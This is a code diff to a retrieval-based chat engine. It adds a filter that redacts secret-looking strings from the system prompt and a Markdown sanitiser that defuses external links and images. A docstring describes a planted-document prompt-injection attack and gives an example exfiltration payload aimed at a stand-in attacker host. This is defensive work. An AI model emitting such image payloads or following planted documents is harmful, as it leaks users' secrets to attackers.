@@ -118,22 +118,31 @@ class ChatEngine:
             yield ChatEvent("done", answer=answer)
             return
 
-        messages = self.prompt(question, history, answer.retrieved, options.system_prompt or self.settings.system_prompt)
+        system = options.system_prompt or self.settings.system_prompt
+        messages = self.prompt(question, history, answer.retrieved, system)
         parts: list[str] = []
+        guard = SecretFilter(system)  # secrets of the system prompt never reach the screen
         try:
             with self.gate.slot():
                 yield ChatEvent("status", f"answering with {llm.provider} ({llm.model_name})")
                 for piece in stream_text(llm, messages, self.timeout_s):
-                    parts.append(piece)
-                    yield ChatEvent("token", piece)
+                    piece = guard.feed(piece)
+                    if piece:
+                        parts.append(piece)
+                        yield ChatEvent("token", piece)
+                rest = guard.flush()
+                if rest:
+                    parts.append(rest)
+                    yield ChatEvent("token", rest)
         except (LLMError, BusyError) as exc:
             answer.error = str(exc)
-            answer.partial = bool(parts)
+            parts.append(guard.flush())
+            answer.partial = bool("".join(parts).strip())
         except GeneratorExit:  # the person pressed stop: keep what was said, marked partial
             answer.partial = True
             raise
         finally:
-            answer.text, answer.sources = cite("".join(parts).strip(), answer.retrieved)
+            answer.text, answer.sources = cite(sanitize_markdown("".join(parts).strip()), answer.retrieved)
         if not answer.text and answer.error:
             answer.text = answer.error
         yield ChatEvent("done", answer=answer)
@@ -174,6 +183,100 @@ class ChatEngine:
             f"Using the sources above, answer in one or two sentences and cite them like [1]: {question.strip()}"
         ))
         return msgs
+
+
+_SCHEME = r"(?:[a-zA-Z][a-zA-Z0-9+.\-]{0,31}:|//)"  # http:, https:, data:, javascript:, //host ...
+_EXTERNAL = re.compile(r"\s*<?\s*" + _SCHEME)
+_MD_PROTECTED = re.compile(r"(^[ \t]{0,3}(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]{0,3}\2[ \t]*$|\Z)|(`+)(?!`).+?(?<!`)\3(?!`))", re.S | re.M)
+_MD_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?"
+_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?" + _MD_TITLE + r"\s*\)")
+_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?" + _MD_TITLE + r"\s*\)")
+_MD_REFDEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?([^\s>]+)>?[^\n]*$", re.M)
+_MD_AUTOLINK = re.compile(r"<(" + _SCHEME + r"[^\s<>]*|www\.[^\s<>]*)>")
+_MD_BROKEN = re.compile(r"\]\((?=" + _EXTERNAL.pattern + r")")
+_HTML_TAG = re.compile(r"<(?=[A-Za-z/!?])")
+
+
+def _is_external(url: str) -> bool:
+    return bool(_EXTERNAL.match(url)) or url.lower().startswith("www.")
+
+
+def _shown(url: str) -> str:
+    """A URL as inline code: visible, never a link in any Markdown renderer."""
+    return "`" + url.replace("`", "%60") + "`"
+
+
+def _sanitize_plain(text: str) -> str:
+    def image(m: re.Match[str]) -> str:
+        alt, url = m.group(1).strip(), m.group(2)
+        if not _is_external(url):
+            return m.group()
+        return f"[image: {_shown(url)}]" if not alt else f"[image {alt}: {_shown(url)}]"
+
+    def link(m: re.Match[str]) -> str:
+        label, url = m.group(1).strip(), m.group(2)
+        if not _is_external(url):
+            return m.group()
+        return f"{label} ({_shown(url)})" if label and label != url else _shown(url)
+
+    def refdef(m: re.Match[str]) -> str:
+        return f"{m.group(1)}: {_shown(m.group(2))}" if _is_external(m.group(2)) else m.group()
+
+    text = _MD_IMAGE.sub(image, text)
+    text = _MD_LINK.sub(link, text)
+    text = _MD_REFDEF.sub(refdef, text)
+    text = _MD_AUTOLINK.sub(lambda m: _shown(m.group(1)), text)
+    text = _MD_BROKEN.sub("] (", text)  # what nested brackets kept from the rules above never becomes a link
+    return _HTML_TAG.sub("&lt;", text)  # raw HTML (<img src=...>) is shown, never rendered
+
+
+def sanitize_markdown(text: str) -> str:
+    """Answer Markdown that cannot make a browser fetch or follow anything outside the app.
+
+    An answer steered by a planted document could carry ``![x](https://attacker/?q=<secret>)``,
+    which a Markdown renderer would fetch at once. External images become ``[image: `URL`]``,
+    external links ``text (`URL`)`` and autolinks and reference definitions inline code; raw HTML
+    tags are escaped. Relative and ``#anchor`` links are kept, and code spans and fences are left
+    untouched (renderers show them literally)."""
+    out, pos = [], 0
+    for m in _MD_PROTECTED.finditer(text):
+        out.append(_sanitize_plain(text[pos : m.start()]))
+        out.append(m.group())
+        pos = m.end()
+    out.append(_sanitize_plain(text[pos:]))
+    return "".join(out)
+
+
+class SecretFilter:
+    """Redacts the system prompt's secret-looking strings (a canary, a key: 8+ characters mixing
+    letters and digits) from a stream of text pieces, holding back only as many characters as the
+    longest secret could straddle. With no such string in the prompt it passes pieces through."""
+
+    REDACTED = "[redacted]"
+
+    def __init__(self, system_prompt: str):
+        found = {w for w in re.findall(r"[A-Za-z0-9_\-]{8,}", system_prompt or "")
+                 if re.search(r"\d", w) and re.search(r"[A-Za-z]", w)}
+        self._pattern = re.compile("|".join(re.escape(w) for w in sorted(found, key=len, reverse=True)), re.I) if found else None
+        self._keep = max((len(w) for w in found), default=1) - 1
+        self._buf = ""
+
+    def redact(self, text: str) -> str:
+        return self._pattern.sub(self.REDACTED, text) if self._pattern else text
+
+    def feed(self, piece: str) -> str:
+        if self._pattern is None:
+            return piece
+        self._buf = self.redact(self._buf + piece)
+        cut = len(self._buf) - self._keep
+        if cut <= 0:
+            return ""
+        out, self._buf = self._buf[:cut], self._buf[cut:]
+        return out
+
+    def flush(self) -> str:
+        out, self._buf = self.redact(self._buf), ""
+        return out
 
 
 def _defang(text: str) -> str:
